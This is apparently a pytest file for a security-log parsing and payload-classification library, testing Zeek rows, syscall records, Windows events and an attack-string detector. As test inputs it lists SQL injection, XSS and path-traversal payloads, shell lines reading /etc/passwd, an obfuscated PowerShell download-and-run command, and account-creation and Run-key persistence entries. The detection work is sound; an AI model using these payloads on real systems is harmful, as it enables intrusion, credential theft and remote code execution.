"""Rows and records of tables that keep a few columns of each event are the event; values of lists are what they are values of."""
import pytest

from aiscore_contract.forms.bare import bare_of
from aiscore_contract.forms.endpoint import of_endpoint
from aiscore_contract.forms.envelope import opened
from aiscore_contract.forms.rows import record_of_row
from aiscore_contract.forms.winevent import event_of_record
from aiscore_contract.forms.zeek import row_of

ENDS = "1700000000.1\tCa1\t10.0.0.5\t51000\t10.0.0.6\t"
CALL = "188.010065,7555,7555,7548,1001,4026531840,sshd,web3,59,execve,{addresses},2,0,\"{arguments}\",0,0"


@pytest.mark.parametrize("columns, name, value", [
    ("53\tudp\t33008\tshop.example\t1\tC_INTERNET\t16\tTXT\t3\tNXDOMAIN\tF\tF\tT\tF\t0\t-\t-\tF", "query", "shop.example"),
    ("53\tudp\t33008\tshop.example\t1\tC_INTERNET\t16\tTXT\t3\tNXDOMAIN\tF\tF\tT\tF\t0\t-\t-\tF", "rcode_name", "NXDOMAIN"),
    ("53\tudp\t33008\t0.02\tshop.example\t1\tC_INTERNET\t16\tTXT\t3\tNXDOMAIN\tF\tF\tT\tF\t0\t-\t-\tF", "query", "shop.example"),
    ("53\tudp\t33008\t-\t-\t-\t-\t-\t3\tNXDOMAIN\tF\tF\tT\tF\t0\t-\t-\tF", "rcode_name", "NXDOMAIN"),
    ("80\t1\tGET\tshop.example\t/a\t-\tcurl/7.1\t0\t300\t404\tNot Found\t-\t-\t-\t(empty)\t-\t-\t-\t-\t-", "user_agent", "curl/7.1"),
    ("80\t1\tGET\tshop.example\t/a\t-\tcurl/7.1\t0\t300\t404\tNot Found\t-\t-\t-\t(empty)\t-\t-\t-\t-\t-", "status_code", "404"),
    ("80\t1\tGET\tshop.example\t/a\t-\tcurl/7.1\t0\t300\t401\tUnauthorized\t-\t-\t-\t(empty)\tann\t-\t-\t-\t-", "username", "ann"),
    ("80\t1\tGET\tshop.example\t/a\t-\t1.1\tcurl/7.1\t0\t300\t404\tNot Found\t-\t-\t(empty)\t-\t-\t-\t-\t-", "user_agent", "curl/7.1"),
    ("80\t1\tGET\tshop.example\t/a\t-\t1.1\tcurl/7.1\t7\t0\t300\t200\tOK\t-\t-\t(empty)\t-\t-\t-\t-\t-", "status_code", "200"),
    ("53\tudp\t33008\t0.02\t-\t-\t-\t-\t-\t3\tNXDOMAIN\tF\tF\tT\tF\t0\t-", "rcode_name", "NXDOMAIN"),
    ("80\t1\tGET\tshop.example\t/a\t-\t1.1\t12\t0\t300\t404\tNot Found\t-\t-\t(empty)\t-\t-\t-\t-\t-", "user_agent", "12"),
    ("80\ttcp\t-\t0.01\t166\t214\tSF\t-\t0\tShADfFa\t4\t382\t3\t382\t(empty)", "history", "ShADfFa"),
    ("80\ttcp\t-\t0.01\t166\t214\tSF\t-\t-\t0\tShADfFa\t4\t382\t3\t382\t-", "orig_pkts", "4"),
])
def test_a_row_of_an_older_zeek_has_its_values_under_todays_names(columns, name, value):
    assert row_of(ENDS + columns).fields[name] == value


@pytest.mark.parametrize("addresses", ["[]", "[140674]", "\"[140674, 140675]\""])
def test_a_system_call_in_a_row_is_the_record_that_it_was(addresses):
    arguments = "[{'name': 'pathname', 'type': 'const char*', 'value': '/bin/sh'}, {'name': 'argv', 'type': 'const char*const*', 'value': ['sh', '-c', \"\"echo 'a' > b\"\"]}]"
    record = record_of_row(CALL.format(addresses=addresses, arguments=arguments))
    assert record["eventName"] == "execve" and record["processName"] == "sshd" and record["args"][1]["value"] == ["sh", "-c", "echo 'a' > b"]


@pytest.mark.parametrize("arguments", ["[{'name': " + "[" * 9_000, "[{'name': '" + "\\" * 9_000, "[{'name': " + "'\"\"" * 5_000, "[{'name': 'a', 'value': {1: 2}}]",
                                       "[{'name': " + "\\'" * 7_900, "[{'name': " + '\\""' * 3_900],
                         ids=["nested", "escaped", "quoted", "no JSON", "quotes that nothing closes", "double ones"])
def test_arguments_that_nobody_printed_so_are_no_record(arguments):
    assert record_of_row(CALL.format(addresses="[]", arguments=arguments)) is None


def of_security_log(number, **members):
    return event_of_record({"UserName": "ann", "EventID": number, "LogHost": "host7", "DomainName": "domain1", "Time": 1, **members})


def test_an_event_of_the_security_log_with_a_few_columns_left_keeps_who_from_where_and_what():
    logon = of_security_log(4625, LogonType=3, Source="host9", Status="0xc000006d")
    assert logon.data["TargetUserName"] == "ann" and logon.data["WorkstationName"] == "host9" and logon.data["LogonType"] == 3
    start = of_security_log(4688, ProcessName="powershell.exe", ParentProcessName="winword")
    assert start.data["NewProcessName"] == "powershell.exe" and start.header["Computer"] == "host7"
    assert of_security_log(4689, ProcessID="0x1f").data["ProcessID"] == "0x1f"


@pytest.mark.parametrize("number", [None, "", "x", 12, 123456, [4625], {"a": 1}])
def test_what_names_a_host_of_logs_without_an_events_number_is_no_windows_event(number):
    assert of_security_log(number) is None


def of_repository(what, act, **properties):
    return of_endpoint({"object": what, "action": act, "actorID": "a", "objectID": "b", "hostname": "host7", "principal": "domain1\\ann", "properties": properties})


def test_a_record_of_the_analytics_repository_is_the_event_that_sysmon_would_have_written():
    start = of_repository("PROCESS", "CREATE", command_line="net user eve /add", image_path="\\Device\\X\\net.exe", parent_image_path="cmd.exe")
    assert start.header["EventID"] == "1" and start.data["CommandLine"] == "net user eve /add" and start.data["ParentImage"] == "cmd.exe"
    key = of_repository("REGISTRY", "EDIT", key="\\REGISTRY\\MACHINE\\SOFTWARE\\Run", value="a", data="C:\\a.exe")
    assert key.data["TargetObject"] == "HKLM\\SOFTWARE\\Run\\a" and key.data["Details"] == "C:\\a.exe"
    for direction, initiated in (("outbound", "true"), ("inbound", "false")):
        assert of_repository("FLOW", "START", dest_ip="db7", dest_port="445", direction=direction).data["Initiated"] == initiated


@pytest.mark.parametrize("properties", [None, "x", [], {}, {"image_path": ["x"]}])
def test_a_record_of_the_repository_that_tells_nothing_is_left_to_other_readers(properties):
    assert of_endpoint({"object": "THREAD", "action": "CREATE", "actorID": "a", "objectID": "b", "properties": properties}) is None


@pytest.mark.parametrize("text, address", [
    ("shop.example/a/login.php?id=1", "http://shop.example/a/login.php?id=1"), ("shop.example:8080/", "http://shop.example:8080/"),
    ("www.shop.example/a/b", "http://www.shop.example/a/b"), ("shop.example/wp-content/", "http://shop.example/wp-content/"),
    ("GEThttp://shop.example/a?id=1", "http://shop.example/a?id=1"),
])
def test_an_address_in_a_list_needs_no_scheme_and_no_blank_behind_its_method(text, address):
    assert bare_of(text) is not None and bare_of(text)[:2] == ("request", address)


@pytest.mark.parametrize("text", [
    "run.sh/a", "sshd.service/start", "app.py/x", "a/b.c", "GET", "e.g./i.e.", "10.0.0.0/8", "report.pdf/page1", "file.tar.gz/..", "README.md/", "sshd.conf/", "docker.io/library/nginx:latest",
    "github.com/spf13/cobra", "node.kubernetes.io/not-ready", "java.lang.String/foo", "host.example.com:443/tcp", "gate7.example/GigabitEthernet0/1", "First.Last/ADMIN"])
def test_a_file_or_a_word_with_a_slash_is_no_address(text):
    assert bare_of(text) is None or bare_of(text).kind != "request"


@pytest.mark.parametrize("text", [
    "' or 1=1 -- ", "1 UNION ALL SELECT NULL,name,password FROM users#", "admin') AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -", "1; drop table users", "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\">", "../../../../etc/passwd%00", "..%2f..%2f..%2fetc%2fshadow",
    "' or ''='", "1' or '1'='1'#", "<script src=//other.example/x.js></script>", "%27+or+1%3D1+--+", "<svg><animate onbegin=alert(1)></svg>", "javascript:alert(1)",
])
def test_a_payload_alone_is_what_was_sent_as_a_parameter(text):
    assert bare_of(text) is not None and bare_of(text).kind == "request" and text.strip() in bare_of(text).value


@pytest.mark.parametrize("text", [
    "select name from customers where id = 4", "it's fine", "O'Brien and Sons", "users' and groups", "'a' or 'b' is missing", "5 and 6 are missing", "<li><a href=\"/a\">b</a></li>",
    "<p>on the way = home</p>", "; a remark", "| id | name |", "1) or later", "a < b or c > d", "", "the file '../../a' was not found",
    "100% of users' and groups", "<b>on</b> <i>x = 1</i>", "%", "%20", "javascript: the good parts", "  AND id IN (SELECT id FROM t)", " WHERE NOT EXISTS (SELECT 1 FROM users)", "  OR 1=1",
    "   -- comment --", "27\" and 32\" = 5 monitors", "6' or 8' = ok", "<script src=\"/js/app.js\"></script>", "<device name=\"printer7\" online=\"true\"/>", "1; update the plan", "2) order by 5 pm",
    "2; select option b", ";", "|",
])
def test_words_quotes_and_markup_of_every_day_are_no_payload(text):
    assert bare_of(text) is None


@pytest.mark.parametrize("text", ["../../logs/app.log", "../../config/app.ini", "../../src/passwdmanager.ts", "../../../shadow-dom/index.js", "&& apt-get install -y curl", "| sort | uniq -c",
                                  "; cat /etc/passwd", "| whoami"])
def test_a_path_upwards_and_a_line_that_a_shell_continues_are_nothing_that_was_sent(text):
    assert bare_of(text).kind == "command"


def test_what_powershell_is_told_to_call_is_its_script():
    assert bare_of("&($env:ComSpec[4,15,25]-join'') (IWR -UseBasicParsing http://shop.example/a).Content").is_script


@pytest.mark.parametrize("unit", ["' or ", "<a ", "<a>", "<a >b", "%27", "select ", "..%2f", "a.", "1) or ", "<a on", ";;", "'\\"])
def test_a_long_value_that_begins_as_a_payload_does_is_none(unit):
    assert bare_of(unit * 20_000) is None


def test_the_number_before_each_event_that_a_reader_of_windows_files_printed_is_taken_off():
    assert opened('Record 12\n{"Event": {"System": {}}}').text == '{"Event": {"System": {}}}'
    assert opened("Record 12\nfell on the floor").text == "Record 12\nfell on the floor"
